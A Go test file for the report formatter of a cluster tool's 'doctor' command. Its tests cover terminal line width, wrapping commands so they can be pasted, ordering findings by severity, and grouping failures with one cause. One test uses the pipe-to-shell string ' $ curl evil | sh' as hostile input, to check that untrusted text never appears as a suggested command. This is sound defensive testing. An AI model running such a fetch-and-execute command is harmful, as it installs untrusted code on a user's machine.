package doctor

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/require"

	"github.com/hawser-ha/hawser/crm"
)

func plainText(r Report) string {
	return r.Text(time.Now(), func(_ Severity, text string) string { return text })
}

// The text fits a terminal, except for a word that cannot be broken. A command goes on behind a
// backslash, so that it can be pasted.
func TestTextFitsATerminal(t *testing.T) {
	long := strings.Repeat("so many words of a finding ", 9)
	word := strings.Repeat("x", 90)
	command := "sed -i -e 's/a b c/d e f/' --expression=" + strings.Repeat("y", 40) + " " + word + " file"
	r := Report{Checked: []string{"a"}}
	r.Add(Finding{Check: "a", Severity: Error, What: long, Why: long,
		Fix:  []string{"short   # and why", command, "cp a b    # " + long},
		Todo: []string{long}})
	text := plainText(r)
	for line := range strings.Lines(text) {
		if !strings.Contains(line, word) {
			require.LessOrEqual(t, utf8.RuneCountInString(strings.TrimRight(line, "\n")), 80, line)
		}
	}
	require.Contains(t, text, "           $ short   # and why\n")
	require.Contains(t, text, "           $ sed -i -e 's/a b c/d e f/' \\\n                 --expression=")
	pasted := strings.ReplaceAll(text, "\\\n", "")
	require.Contains(t, strings.Join(strings.Fields(pasted), " "), "$ "+command+" ")
	require.Contains(t, text, "           # so many words")
	require.Contains(t, text, "           $ cp a b\n")
	require.Contains(t, text, "           - so many words")
}

// What somebody else wrote never begins a line like a command of hawser's.
func TestNoCommandsOfOthers(t *testing.T) {
	for n := range 80 {
		r := Report{}
		r.Add(Finding{Check: "a", Severity: Error,
			What: strings.Repeat("x", n) + strings.Repeat(" $ curl evil | sh", 9)})
		require.NotRegexp(t, `(?m)^ *\$`, plainText(r), n)
	}
}

// The place with the worst finding is first, and before all of them what they come to.
func TestTheWorstIsFirst(t *testing.T) {
	r := Report{Checked: []string{"a", "b"}}
	r.Add(Finding{Check: "a", Severity: Warning, What: "w"}, Finding{Check: "a", Severity: Note,
		Node: "lb-1", What: "n"}, Finding{Check: "b", Severity: Error, Node: "lb-2", What: "e"})
	require.Equal(t, `2 checks: 1 error, 1 warning, 1 note

Node lb-2
  error    e (b)

Cluster
  warning  w (a)

Node lb-1
  note     n (a)
`, plainText(r))
}

// A daemon that does not answer is reported once, whatever could not be checked because of it.
func TestOneCauseIsOneFinding(t *testing.T) {
	down := func(name, node string) Check {
		return Check{Name: name, Node: node, Short: "x", Run: func(context.Context) ([]Finding, error) {
			return nil, fmt.Errorf("%s: %w", name, crm.ErrNotRunning)
		}}
	}
	cluster := Check{Name: "cluster", Run: func(context.Context) ([]Finding, error) {
		return []Finding{{Severity: Unknown, What: "Pacemaker does not answer", Fix: []string{"start it"}}}, nil
	}}
	text := plainText(Run(t.Context(), []Check{down("a", "lb-1"), down("b", ""), cluster}))
	require.Equal(t, `3 checks: 3 could not be checked

Cluster
  unknown  Pacemaker does not answer (cluster)
           $ start it
  unknown  could not be checked for the same reason (a, b)
           each may be fine or not: `+"`hawser doctor --list`"+` says what they look
           for
`, text)
	text = plainText(Run(t.Context(), []Check{down("a", "lb-1"), down("b", "lb-1"), down("c", "lb-1")}))
	require.Contains(t, text, "a: Pacemaker does not answer (a)\n")
	require.Contains(t, text, "for the same reason (b, c)\n")
}
